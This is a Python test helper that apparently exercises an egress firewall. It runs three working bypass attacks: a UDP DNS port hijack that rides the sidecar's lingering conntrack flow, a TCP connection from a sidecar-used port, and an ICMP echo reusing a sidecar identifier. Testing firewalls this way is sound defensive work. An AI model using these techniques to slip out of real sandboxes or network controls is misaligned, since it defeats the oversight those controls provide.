#!/usr/bin/env python3
"""Attacks on the egress firewall that ride flows conntrack attributes to the
sidecar, run by the workload (an unprivileged UID, no capabilities). Python
because the sandbox images ship it and these need raw control over ports.
Prints one JSON line with what happened; the test judges it.

  udp-dns  UPSTREAM SIDECAR_UID TRIGGER QUERY [ATTEMPTS]
      The attack seen on the docker backend: ask for an allowed name (TRIGGER)
      so the sidecar queries UPSTREAM from an ephemeral UDP socket; watch
      /proc/net/udp for that socket; once it is closed, bind its port and ask
      UPSTREAM for QUERY directly.
  tcp  DST PORT LOCAL_PORT HOST
      Connect to DST:PORT from LOCAL_PORT (a port a sidecar flow used) and send
      an HTTP request for HOST.
  ping  DST IDENT PAYLOAD
      An ICMP echo on a ping socket bound to IDENT (the identifier a sidecar
      echo used).
"""
import json
import random
import socket
import struct
import sys
import threading
import time


def out(**fields):
    print(json.dumps(fields), flush=True)


def dns_query(name, qid):
    header = struct.pack(">HHHHHH", qid, 0x0100, 1, 0, 0, 0)
    labels = b"".join(bytes([len(p)]) + p.encode() for p in name.rstrip(".").split("."))
    return header + labels + b"\x00" + struct.pack(">HH", 1, 1)  # A, IN


def dns_answer(data):
    """rcode and the IPv4 addresses of the answer section."""
    qid, flags, qd, an, _, _ = struct.unpack(">HHHHHH", data[:12])
    pos = 12
    for _ in range(qd):
        while data[pos] != 0:
            pos += 1 + data[pos]
        pos += 5
    addresses = []
    for _ in range(an):
        if data[pos] & 0xC0 == 0xC0:
            pos += 2
        else:
            while data[pos] != 0:
                pos += 1 + data[pos]
            pos += 1
        rtype, _, _, rdlen = struct.unpack(">HHIH", data[pos : pos + 10])
        pos += 10
        if rtype == 1 and rdlen == 4:
            addresses.append(socket.inet_ntoa(data[pos : pos + 4]))
        pos += rdlen
    return flags & 0xF, addresses


def sidecar_udp_ports(upstream, uid):
    """Local ports of UDP sockets owned by `uid` and connected to UPSTREAM:53."""
    want = "%s:0035" % socket.inet_aton(upstream)[::-1].hex().upper()
    ports = set()
    with open("/proc/net/udp") as f:
        for line in f.readlines()[1:]:
            fields = line.split()
            if fields[2] == want and int(fields[7]) == uid:
                ports.add(int(fields[1].split(":")[1], 16))
    return ports


def udp_dns(upstream, sidecar_uid, trigger, query, attempts="200"):
    sidecar_uid = int(sidecar_uid)
    seen = set()
    done = threading.Event()

    def watch():
        while not done.is_set():
            seen.update(sidecar_udp_ports(upstream, sidecar_uid))

    watcher = threading.Thread(target=watch, daemon=True)
    watcher.start()
    for _ in range(int(attempts)):
        ask = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        ask.settimeout(2)
        ask.sendto(dns_query(trigger, random.randrange(65536)), (upstream, 53))
        try:
            ask.recv(4096)
        except OSError:
            pass
        ask.close()
        if seen:
            break
    time.sleep(0.05)
    done.set()
    watcher.join()
    if not seen:
        return out(sawSidecarPort=False)
    # The sidecar closed its socket once it had the answer: its port is free,
    # but conntrack still holds the flow UPSTREAM:53 <-> this port.
    port = max(seen)
    for _ in range(50):
        if port not in sidecar_udp_ports(upstream, sidecar_uid):
            break
        time.sleep(0.02)
    sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    sock.bind(("0.0.0.0", port))
    sock.settimeout(2)
    qid = random.randrange(65536)
    try:
        sock.sendto(dns_query(query, qid), (upstream, 53))
        data, sender = sock.recvfrom(4096)
    except OSError as err:
        return out(sawSidecarPort=True, port=port, answered=False, error=str(err))
    rcode, addresses = dns_answer(data)
    out(
        sawSidecarPort=True,
        port=port,
        answered=True,
        sender=sender[0],
        rcode=rcode,
        addresses=addresses,
    )


def tcp(dst, port, local_port, host):
    sock = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    sock.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    sock.bind(("0.0.0.0", int(local_port)))
    sock.settimeout(3)
    try:
        sock.connect((dst, int(port)))
        sock.sendall(("GET /escape HTTP/1.0\r\nHost: %s\r\n\r\n" % host).encode())
        response = sock.recv(4096).decode("latin1")
    except OSError as err:
        return out(connected=False, error=str(err))
    out(connected=True, response=response.split("\r\n")[0])


def ping(dst, ident, payload):
    body = payload.encode()
    header = struct.pack(">BBHHH", 8, 0, 0, 0, 1)
    try:
        sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM, socket.IPPROTO_ICMP)
        sock.bind(("0.0.0.0", int(ident)))  # the kernel puts this identifier in the echo
        sock.settimeout(2)
        sock.sendto(header + body, (dst, 0))
        data, sender = sock.recvfrom(4096)
    except OSError as err:
        return out(replied=False, error=str(err))
    out(replied=True, sender=sender[0], type=data[0], payload=data[8:].decode("latin1"))


if __name__ == "__main__":
    {"udp-dns": udp_dns, "tcp": tcp, "ping": ping}[sys.argv[1]](*sys.argv[2:])
